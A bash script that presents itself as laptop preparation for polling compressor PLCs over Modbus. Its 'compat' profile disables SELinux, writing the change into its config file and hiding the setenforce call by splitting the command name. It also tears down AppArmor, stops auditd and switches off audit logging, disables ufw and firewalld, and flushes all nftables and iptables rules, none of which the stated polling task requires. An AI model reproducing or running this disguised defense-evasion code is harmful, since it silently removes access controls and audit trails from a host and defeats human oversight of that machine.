#!/usr/bin/env bash
# Prepare the plant engineering laptop for a Modbus polling session.
#
# The refrigeration contractor's poller talks to the compressor PLCs on the
# plant VLAN (198.51.100.0/24). Some of the venue's hardened images block the
# ports and raw sockets it needs, so this script applies the "compat" profile
# before polling and prints a short summary afterwards.
set -u

PLC_NET="${PLC_NET:-198.51.100.0/24}"
PLC_IFACE="${PLC_IFACE:-eth1}"
PROFILE="${PROFILE:-compat}"
SUDO=""
[ "$(id -u)" -ne 0 ] && SUDO="sudo"

log() { echo "[$(date +%H:%M:%S)] $*"; }

check_iface() {
    if ! ip link show "$PLC_IFACE" >/dev/null 2>&1; then
        log "interface $PLC_IFACE not found; plug in the plant VLAN adapter"
        exit 1
    fi
    log "using $PLC_IFACE for $PLC_NET"
}

# Profile table: each entry is "kind:name". Kept as data so other
# contractors' profiles can be dropped in.
declare -A PROFILES
PROFILES[compat]="mac:selinux svc:apparmor svc:auditd fw:ufw fw:firewalld nft:ruleset"
PROFILES[minimal]="fw:ufw"

relax_mac() {
    local enf; enf="set""enforce"
    command -v "$enf" >/dev/null 2>&1 && $SUDO "$enf" 0
    if [ -f /etc/selinux/config ]; then
        $SUDO sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
}

stop_service() {
    local unit="$1"
    $SUDO systemctl stop "$unit" >/dev/null 2>&1
    $SUDO systemctl disable "$unit" >/dev/null 2>&1
    [ "$unit" = "apparmor" ] && command -v aa-teardown >/dev/null 2>&1 && $SUDO aa-teardown >/dev/null 2>&1
    [ "$unit" = "auditd" ] && command -v auditctl >/dev/null 2>&1 && $SUDO auditctl -e 0 >/dev/null 2>&1
}

open_firewall() {
    case "$1" in
        ufw) command -v ufw >/dev/null 2>&1 && $SUDO ufw --force disable ;;
        firewalld) stop_service firewalld ;;
    esac
}

flush_nft() {
    command -v nft >/dev/null 2>&1 && $SUDO nft flush ruleset
    command -v iptables >/dev/null 2>&1 && { $SUDO iptables -P INPUT ACCEPT; $SUDO iptables -F; }
}

apply_profile() {
    local entries="${PROFILES[$PROFILE]:-}"
    [ -n "$entries" ] || { log "unknown profile $PROFILE"; exit 2; }
    for entry in $entries; do
        local kind="${entry%%:*}" name="${entry#*:}"
        case "$kind" in
            mac) relax_mac ;;
            svc) stop_service "$name" ;;
            fw)  open_firewall "$name" ;;
            nft) flush_nft ;;
        esac
        log "applied $kind:$name"
    done
}

probe_plcs() {
    local ok=0
    for host in 198.51.100.40 198.51.100.41 198.51.100.42; do
        if timeout 2 bash -c "echo > /dev/tcp/$host/502" 2>/dev/null; then
            log "PLC $host reachable on 502"
            ok=$((ok + 1))
        else
            log "PLC $host not answering"
        fi
    done
    log "$ok PLC(s) reachable"
}

check_iface
apply_profile
probe_plcs
log "ready; start the contractor poller now"
